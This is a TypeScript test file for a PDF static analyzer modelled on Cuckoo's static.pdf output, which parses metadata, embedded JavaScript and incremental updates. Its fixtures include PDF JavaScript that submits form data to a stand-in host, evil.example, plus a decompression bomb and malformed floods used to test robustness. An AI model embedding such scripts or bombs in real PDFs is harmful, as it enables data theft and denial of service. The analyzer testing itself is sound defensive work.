// static.pdf in Cuckoo 2.0.7's shape, on PDFs built here with real cross-reference tables: the
// metadata of each version (literal strings with escapes, UTF-16BE hex strings), JavaScript as a
// string and in Flate and ASCIIHex streams (beautified as Cuckoo did), an incremental update as a
// version of its own, counts per version, and hostile input that must end in an error, never a
// throw or a quadratic scan.
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { afterAll, describe, expect, it } from 'vitest'
import { analyzePdf } from './pdf'
import { missingConsumerFields } from '../../../../test/cuckoo-report-fields'
import { mutated } from '../../../../test/mutated'

const tmp = mkdtempSync(join(tmpdir(), 'aviary-pdf-'))
afterAll(() => rmSync(tmp, { recursive: true, force: true }))

/** Objects from `first` on, each `n 0 obj … endobj`, then an xref table and a trailer; offsets are real. */
function section(start: number, first: number, objects: (string | Buffer)[], trailer: string): { bytes: Buffer; xref: number } {
  const parts: Buffer[] = []
  const offsets: number[] = []
  let at = start
  objects.forEach((o, i) => {
    const body = Buffer.concat([Buffer.from(`${first + i} 0 obj\n`), typeof o === 'string' ? Buffer.from(o, 'latin1') : o, Buffer.from('\nendobj\n')])
    offsets.push(at)
    parts.push(body)
    at += body.length
  })
  const xref = `xref\n${first} ${objects.length}\n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`
  parts.push(Buffer.from(`${xref}trailer\n${trailer}\nstartxref\n${at}\n%%EOF\n`))
  return { bytes: Buffer.concat(parts), xref: at }
}

const stream = (dict: string, data: Buffer): Buffer => Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')])

function document(): Buffer {
  const head = Buffer.from('%PDF-1.6\n%\xe2\xe3\xcf\xd3\n', 'latin1')
  const js = 'var u="http://evil.example/p";if(app.viewerVersion>8){this.submitForm(u);}'
  const original = section(head.length, 1, [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 4 0 R >> >>',
    '<< /Type /Pages /Kids [] /Count 0 >>',
    // Literal escapes: \( \) \\ \n and an octal \351 (é in PDFDocEncoding); a UTF-16BE title.
    `<< /Creator (Writer \\(v2\\) \\\\ caf\\351) /Title <FEFF00540069007400720065> /Author (A. N. Other) /CreationDate (D:20240102030405Z) >>`,
    stream('/Filter /FlateDecode', deflateSync(Buffer.from(js)))
  ], '<< /Size 5 /Root 1 0 R /Info 3 0 R >>')
  const v0 = Buffer.concat([head, original.bytes])
  // An incremental update: a new page action whose JavaScript is hex, then Flate (filters in order), and new metadata.
  const hexThenFlate = Buffer.from(deflateSync(Buffer.from('app.alert(1)')).toString('hex') + '>')
  const update = section(v0.length, 5, [
    '<< /Type /Action /S /JavaScript /JS 6 0 R /Next << /S /URI /URI (https://update.example/u) >> >>',
    stream('/Filter [/AHx /FlateDecode]', hexThenFlate),
    '<< /Producer (Updater 1.0) /ModDate (D:20250101000000Z) >>'
  ], `<< /Size 8 /Root 1 0 R /Info 7 0 R /Prev ${original.xref} >>`)
  return Buffer.concat([v0, update.bytes])
}

describe('static.pdf', () => {
  it('gives one row per version, with its metadata, JavaScript, URLs, OpenAction and counts', () => {
    const file = join(tmp, 'two-versions.pdf')
    writeFileSync(file, document())
    expect(execFileSync('file', ['-b', file]).toString()).toMatch(/^PDF document, version 1\.6/)
    const rows = analyzePdf(document())
    expect(rows.map((r) => r.version)).toEqual([0, 1])
    const [v0, v1] = rows as [typeof rows[0], typeof rows[0]]
    expect(v0).toMatchObject({ creator: 'Writer (v2) \\ café', title: 'Titre', author: 'A. N. Other', creation: 'D:20240102030405Z', producer: '', pdf_version: '1.6' })
    expect(v0.javascript).toHaveLength(1)
    expect(v0.javascript[0]!.orig_code).toBe('var u="http://evil.example/p";if(app.viewerVersion>8){this.submitForm(u);}')
    expect(v0.javascript[0]!.urls).toEqual(['http://evil.example/p'])
    expect(v0.javascript[0]!.beautified).toBe('var u = "http://evil.example/p";\nif (app.viewerVersion > 8) {\n  this.submitForm(u);\n}')
    expect(v0.openaction).toBe('<< /S /JavaScript /JS 4 0 R >>')
    expect(v0.counts).toMatchObject({ objects: 4, streams: 1, javascript: 2, openaction: 1 })
    expect(v0.urls).toEqual([])
    expect(v1).toMatchObject({ producer: 'Updater 1.0', modification: 'D:20250101000000Z', creator: '', urls: ['https://update.example/u'], openaction: null })
    expect(v1.javascript.map((j) => j.orig_code)).toEqual(['app.alert(1)'])
    expect(v1.counts).toMatchObject({ objects: 3, streams: 1, javascript: 2, uri: 2 })
    expect(v0.error).toBeUndefined()
    expect(v1.error).toBeUndefined()
    // What Cuckoo 2.0.7's _pdf.html reads, with the types it needs; an older report's object of counts fails it.
    expect(missingConsumerFields({ static: { pdf: rows } }, 'file', ['CuckooWeb']).filter((m) => m.includes('static.pdf'))).toEqual([])
    expect(missingConsumerFields({ static: { pdf: { objects: 3 } } }, 'file', ['CuckooWeb']).filter((m) => m.includes('static.pdf'))).toContain('CuckooWeb: static.pdf (not array)')
  })

  it('reads a PDF as a real writer makes it: Chromium\'s (Skia) print of a page with a title and a link', () => {
    const page = join(tmp, 'page.html')
    const out = join(tmp, 'printed.pdf')
    writeFileSync(page, '<html><head><title>Quarterly report</title></head><body><h1>Q3</h1><a href="https://link.example/path">more</a></body></html>')
    execFileSync('chromium', ['--headless', '--no-sandbox', '--disable-gpu', `--user-data-dir=${join(tmp, 'profile')}`, `--print-to-pdf=${out}`, `file://${page}`], { stdio: 'ignore', timeout: 60_000 })
    const rows = analyzePdf(readFileSync(out))
    expect(rows).toHaveLength(1)
    expect(rows[0]).toMatchObject({ version: 0, title: 'Quarterly report', producer: expect.stringMatching(/^Skia\/PDF/), creator: expect.stringContaining('Chrome'),
      creation: expect.stringMatching(/^D:\d{14}/), urls: ['https://link.example/path'], javascript: [], openaction: null })
    expect(rows[0]!.counts.objects).toBeGreaterThan(5)
    expect(rows[0]!.error).toBeUndefined()
  }, 90_000)

  it('names a filter it does not read, and keeps the rest', () => {
    const head = Buffer.from('%PDF-1.4\n')
    const doc = Buffer.concat([head, section(head.length, 1, [
      '<< /Type /Catalog /Names << /JavaScript << /Names [(a) 2 0 R] >> >> >>',
      '<< /S /JavaScript /JS 3 0 R >>',
      stream('/Filter /LZWDecode', Buffer.from([0x80, 0x0b, 0x60]))
    ], '<< /Size 4 /Root 1 0 R >>').bytes])
    const [row] = analyzePdf(doc)
    expect(row!.javascript).toEqual([])
    expect(row!.error).toBe('/JS of 2 0: stream filter /LZWDecode is not read')
  })

  it('never throws on mutated documents, and scans a hostile one in one pass', () => {
    const base = document()
    for (const b of mutated(base, 300, 12, 5)) {
      const rows = analyzePdf(b)
      expect(rows.length).toBeGreaterThan(0)
    }
    // 300 scripts that all refer to one 16 MiB stream: decoded once.
    const bomb = deflateSync(Buffer.alloc(16 << 20, 0x20))
    const head2 = Buffer.from('%PDF-1.5\n')
    const refs = section(head2.length, 1, [stream('/Filter /FlateDecode', bomb), ...Array.from({ length: 300 }, () => '<< /S /JavaScript /JS 1 0 R >>')], '<< /Size 302 >>')
    const [many] = analyzePdf(Buffer.concat([head2, refs.bytes]))
    expect(many!.javascript.length).toBeLessThanOrEqual(256)
    expect(many!.javascript.length).toBeGreaterThan(0)
    expect(many!.error).toBeUndefined() // decoded 300 times, it would spend the PDF's decoding budget and say so
    // 200,000 object headers with no endobj, unbalanced strings and dictionaries: bounded work.
    const hostile = Buffer.from(`%PDF-1.7\n${'1 0 obj << /JS (('.repeat(200_000)}`)
    const rows = analyzePdf(hostile)
    expect(rows[0]!.counts.objects).toBe(200_000)
    expect(rows[0]!.javascript.length).toBeLessThanOrEqual(256)
  })
})
